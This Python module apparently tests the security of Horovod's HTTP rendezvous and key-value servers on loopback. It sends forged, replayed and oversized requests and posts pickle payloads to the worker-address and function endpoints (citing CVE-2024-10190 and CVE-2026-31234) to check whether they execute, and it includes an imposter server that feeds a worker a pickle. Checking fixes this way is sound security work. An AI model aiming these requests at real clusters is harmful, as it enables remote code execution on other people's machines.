"""Attacks Horovod's servers of HTTP: the rendezvous, static and elastic, and the store of keys and values."""

import base64
import contextlib
import hashlib
import os
import secrets
import socket
import threading

from attack_tools import INTERFACE, LIMIT, LOOPBACK, Request, Signer, bait, fits, listening, status, written

TOO_LONG = 2**40
"""Bytes. No server has a reason to read as many, and none are sent."""
HOST, SLOT = "node", 0
RIGHT = "right"


def forgeries(port, key, put):
    """Name and bytes of requests that do not fit their signature, made by one who saw those of the job.

    ``put`` is one that the job could send.
    """
    stranger, seen = Signer(secrets.token_bytes(32)), Signer(key)
    for method in ("GET", "PUT", "DELETE"):
        one = put._replace(method=method, body=put.body if method == "PUT" else b"")
        yield "unsigned " + method, written(one, {})
        yield "other key " + method, written(one, stranger.headers(port, one))
    other = put._replace(body=bytes(reversed(put.body)))
    yield "other value", written(other, seen.headers(port, put))
    digest = {"X-Horovod-Digest": hashlib.sha256(other.body).hexdigest()}
    yield "other value and digest", written(other, {**seen.headers(port, put), **digest})
    yield "other scope", written(put._replace(scope="other"), seen.headers(port, put))
    yield "other place", written(put._replace(key="other"), seen.headers(port, put))
    yield "other method", written(put._replace(method="DELETE", body=b""), seen.headers(port, put))
    yield "other server", written(put, seen.headers(port + 1, put))
    yield "no signature", written(put, {**seen.headers(port, put), "X-Horovod-Signature": ""})


def replays(port, key, put):
    """Statuses of a signed request, of the same bytes once more, and of one that was held back until then."""
    signer = Signer(key)
    held = written(put, signer.headers(port, put))
    sent = written(put, signer.headers(port, put))
    return {"first": status(port, sent), "replayed": status(port, sent), "held back": status(port, held)}


def oversized(port, key, put):
    long = dict(length=TOO_LONG)
    return {
        "unsigned": status(port, written(put._replace(body=b""), {}, **long)),
        "signed": status(port, written(put._replace(body=b""), Signer(key).headers(port, put), **long)),
    }


def strange(port, key, put):
    """Statuses of requests for which there is no reason: SimpleHTTPRequestHandler has HEAD for its folder."""
    signer = Signer(key)
    nothing = put._replace(body=b"")
    return {
        "files": status(port, b"HEAD / HTTP/1.0\r\n\r\n"),
        "negative length": status(port, written(nothing, signer.headers(port, nothing), length=-1)),
        "long path": status(port, b"GET /a/b/c HTTP/1.0\r\n\r\n"),
    }


class Client:
    """Horovod's own client, with a key."""

    def __init__(self, port, key):
        self.port, self.key = port, key

    def put(self, scope, key, value):
        from horovod.runner.http.http_client import put_data_into_kvstore as function

        function(LOOPBACK, self.port, scope, key, value, **fits(function, secret_key=self.key))

    def get(self, scope, key):
        from horovod.runner.http.http_client import read_data_from_kvstore as function

        return function(LOOPBACK, self.port, scope, key, **fits(function, secret_key=self.key))


def served(client, scope, key):
    """What the job's client reads back of what it put there, or why not."""
    try:
        client.put(scope, key, RIGHT)
        return {"value": client.get(scope, key), "error": None}
    except Exception as error:
        return {"value": None, "error": "%s: %s" % (type(error).__name__, error)}


def kept(client, scope, key):
    """What the job's client finds where it put the right value before the attacks."""
    try:
        return client.get(scope, key)
    except Exception as error:
        return "%s: %s" % (type(error).__name__, error)


def assault(port, key):
    """All that is fired at each server, whatever it serves."""
    client = Client(port, key)
    facts = {"listens": listening(port), "served": served(client, "probe", "kept")}
    put = Request("PUT", "probe", "kept", b"d3Jvbmc=")
    facts["forged"] = {name: status(port, content) for name, content in forgeries(port, key, put)}
    facts["kept"] = kept(client, "probe", "kept")
    facts["replayed"] = replays(port, key, put._replace(key="replayed"))
    facts["oversized"] = oversized(port, key, put)
    facts["strange"] = strange(port, key, put)
    return facts


class Driver:
    """The driver of an elastic job; notes the workers that are registered."""

    def __init__(self):
        self.registered, self.workers = [], []

    def record_ready(self, host, slot):
        pass

    def get_slot_info(self, host, slot):
        from horovod.runner.common.util.hosts import SlotInfo

        return SlotInfo(
            hostname=host, rank=0, local_rank=slot, cross_rank=0, size=1, local_size=1, cross_size=1
        )

    def register_worker_server(self, host, slot, addresses, secret_key):
        self.registered.append([host, slot])
        self.workers.append((addresses, secret_key))


def rendezvous(key):
    from horovod.runner.http.http_server import RendezvousServer as Server

    with run_server(Server(**fits(Server, key=key)), "start") as port:
        return assault(port, key)


def elastic(key):
    """The server of an elastic job, and CVE-2024-10190."""
    from horovod.runner.elastic.rendezvous import create_rendezvous_handler
    from horovod.runner.http.http_server import RendezvousServer as Server

    driver = Driver()
    handler = create_rendezvous_handler(driver)
    with run_server(Server(**fits(Server, key=key)), "start", handler) as port:
        facts = assault(port, key)
        ask = Request("GET", "rank_and_size", "%s:%d" % (HOST, SLOT), b"")
        facts["forged"]["unsigned rank"] = status(port, written(ask, {}))
        facts["pickles"] = {
            name: pickled(port, Request("PUT", "worker_addresses", "%s:%d" % (HOST, SLOT), b""), signer)
            for name, signer in (("unsigned", None), ("other key", Signer(secrets.token_bytes(32))),
                                 ("signed", Signer(key)))
        }  # fmt: skip
        facts["registered"] = list(driver.registered)
        facts["joined"] = joined(port, key, driver)
    return facts


def pickled(port, request, signer):
    """The status of a request with a pickle, and whether it was executed."""
    with bait() as (payload, executed):
        one = request._replace(body=base64.b64encode(payload))
        answer = status(port, written(one, signer.headers(port, one) if signer else {}))
        return {"status": answer, "executed": executed()}


class Listener:
    """The training, which an elastic worker notifies of new hosts."""

    def __init__(self):
        self.told = []

    def on_hosts_updated(self, timestamp, update_res):
        self.told.append(timestamp)


def joined(port, key, driver):
    """Whether a real worker of the job can say where it is, and is then told by the driver."""
    from horovod.runner.elastic import worker

    before, manager, listener = len(driver.registered), worker.WorkerNotificationManager(), Listener()
    manager.register_listener(listener)
    try:
        with job_environment(key):
            manager.init(rendezvous_addr=LOOPBACK, rendezvous_port=port, nic=INTERFACE, hostname=HOST,
                         local_rank=SLOT)  # fmt: skip
        listens = listening(manager._service.get_port())
        client = worker.WorkerNotificationClient(*driver.workers[-1], verbose=0)
        client.notify_hosts_updated(1, worker.HostUpdateResult.added)
        manager._service.shutdown()
    except Exception as error:
        return {"error": "%s: %s" % (type(error).__name__, error)}
    return {
        "error": None,
        "registered": driver.registered[before:],
        "listens": listens,
        "told": listener.told,
    }


def key_value(key):
    """The server that hands a function to the workers, and CVE-2026-31234."""
    from horovod.runner.http.http_server import KVStoreServer as Server

    with run_server(Server(verbose=0, **fits(Server, key=key)), "start_server") as port:
        facts = assault(port, key)
        put = Request("PUT", "runfunc", "func", b"")
        facts["pickles"] = {
            name: read(port, put, signer, Client(port, key))
            for name, signer in (("unsigned", None), ("other key", Signer(secrets.token_bytes(32))))
        }
    facts["pickles"]["imposter"] = imposter(key)
    return facts


def read(port, request, signer, client):
    """The status of a request with a pickle, and whether the worker that asks for the value executed it."""
    with bait() as (payload, executed):
        one = request._replace(body=base64.b64encode(payload))
        answer = status(port, written(one, signer.headers(port, one) if signer else {}))
        kept(client, request.scope, request.key)
        return {"status": answer, "executed": executed()}


def imposter(key):
    """Whether a worker executes what another server answers, which has the port but not the key."""
    with bait() as (payload, executed), socket.create_server((LOOPBACK, 0)) as server:
        body = base64.b64encode(payload)
        signature = "X-Horovod-Signature: %s\r\n" % secrets.token_hex(32)
        head = "HTTP/1.0 200 OK\r\nContent-Length: %d\r\n%s\r\n" % (len(body), signature)
        with answering(server, head.encode() + body):
            kept(Client(server.getsockname()[1], key), "runfunc", "func")
        return {"status": None, "executed": executed()}


@contextlib.contextmanager
def answering(server, content):
    """Say the same to the first who comes."""
    server.settimeout(LIMIT)

    def serve():
        with contextlib.suppress(OSError):
            connection, _ = server.accept()
            with connection:
                connection.settimeout(LIMIT)
                connection.recv(65536)
                connection.sendall(content)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield
    thread.join(LIMIT)


@contextlib.contextmanager
def run_server(server, start, *arguments):
    """The port of a server that runs until the end of the block."""
    function = getattr(server, start)
    port = function(*arguments, **fits(function, address=LOOPBACK))
    try:
        yield port
    finally:
        (server.stop if hasattr(server, "stop") else server.shutdown_server)()


@contextlib.contextmanager
def job_environment(key):
    """The environment of a worker of the job."""
    name = "_HOROVOD_SECRET_KEY"
    before = os.environ.get(name)
    os.environ[name] = key.hex()
    try:
        yield
    finally:
        os.environ.pop(name)
        if before is not None:
            os.environ[name] = before
